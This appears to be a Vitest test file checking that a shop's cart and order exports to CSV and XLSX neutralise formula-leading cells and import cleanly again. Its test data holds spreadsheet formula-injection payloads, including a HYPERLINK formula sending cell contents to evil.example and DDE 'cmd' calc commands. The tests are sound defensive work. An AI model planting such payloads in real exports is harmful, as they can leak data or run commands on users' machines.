/** Input limits: exported cells never start a formula (input-limits-fixtures.ts has the pen test). */
import { strFromU8, unzipSync } from "fflate";
import { beforeAll, describe, expect, it } from "vitest";
import app from "../../workers/commerce/src/index";
import { parseCsv, parseXlsx, writeCsv, writeXlsx } from "../../workers/commerce/src/cart/files";
import { call, env } from "../workers/commerce/helpers";
import { freshBuyer, add, cartLines, upload, plainArticles } from "./input-limits-fixtures";

let plain: string[] = [];

beforeAll(async () => {
  plain = await plainArticles();
});

const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\uFF1D1+1",
];

describe("CSV and XLSX export neutralise formulas", () => {
  it("prefixes formula-leading labels in the cart's CSV and XLSX export, keeps numbers numeric, and imports them back", async () => {
    const { token, cartId } = await freshBuyer();
    const added = await add(
      token,
      cartId,
      DANGEROUS.map((label, i) => ({ articleNumber: plain[10 + i], quantity: 3, deliveryId: "DBI", label })),
    );
    expect(added.status, added.text).toBe(200);
    expect(added.json.errors).toEqual([]);

    const csv = await call(`/v2/cart/${cartId}/export`, { token, body: { format: "csv" } });
    expect(csv.status).toBe(200);
    const rows = parseCsv(csv.text).slice(1);
    expect(rows).toHaveLength(DANGEROUS.length);
    for (const row of rows) {
      for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
      expect(row[2]).toBe("3");
    }
    expect(rows.map((r) => r[5]).sort()).toEqual(DANGEROUS.map((l) => `'${l}`).sort());

    const response = await app.request(
      `/v2/cart/${cartId}/export`,
      {
        method: "POST",
        headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
        body: JSON.stringify({ format: "xlsx" }),
      },
      env,
    );
    const bytes = new Uint8Array(await response.arrayBuffer());
    const sheet = strFromU8(unzipSync(bytes)["xl/worksheets/sheet1.xml"]);
    const texts = [...sheet.matchAll(/<t[^>]*>([\s\S]*?)<\/t>/g)].map((m) =>
      m[1]
        .replace(/&quot;/g, '"')
        .replace(/&amp;/g, "&")
        .replace(/&lt;/g, "<")
        .replace(/&gt;/g, ">"),
    );
    for (const text of texts) expect(text, text).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    expect(texts).toEqual(expect.arrayContaining(DANGEROUS.map((l) => `'${l}`)));
    // The quantity column stays a number cell (no t="inlineStr"), so Excel can sum it.
    expect(sheet).toMatch(/<c r="C2"><v>3<\/v><\/c>/);
    expect(sheet).not.toMatch(/<f>/);

    // An exported file uploads again with the original labels (the apostrophe is taken off on import).
    const other = await freshBuyer();
    const again = await upload(other.token, other.cartId, bytes, "varukorg.xlsx");
    expect(again.status).toBe(200);
    expect((await cartLines(other.token, other.cartId)).map((l) => l[3]).sort()).toEqual([...DANGEROUS].sort());
  });

  it("neutralises text in the shared writer used by the order download, leaving plain numbers alone", () => {
    const csv = writeCsv([
      ["Ordernummer", "Rad", "Märkning", "Belopp"],
      ["O-1", "1", "=1+1", "-12,50"],
      ["O-1", "2", "@x", 7],
    ]);
    const rows = parseCsv(csv);
    expect(rows[1]).toEqual(["O-1", "1", "'=1+1", "-12,50"]);
    expect(rows[2]).toEqual(["O-1", "2", "'@x", "7"]);
    const xlsx = parseXlsx(
      writeXlsx([
        ["a", "b"],
        ["\tcmd", -5],
      ]),
    );
    expect(xlsx[1]).toEqual(["'\tcmd", "-5"]);
  });
});
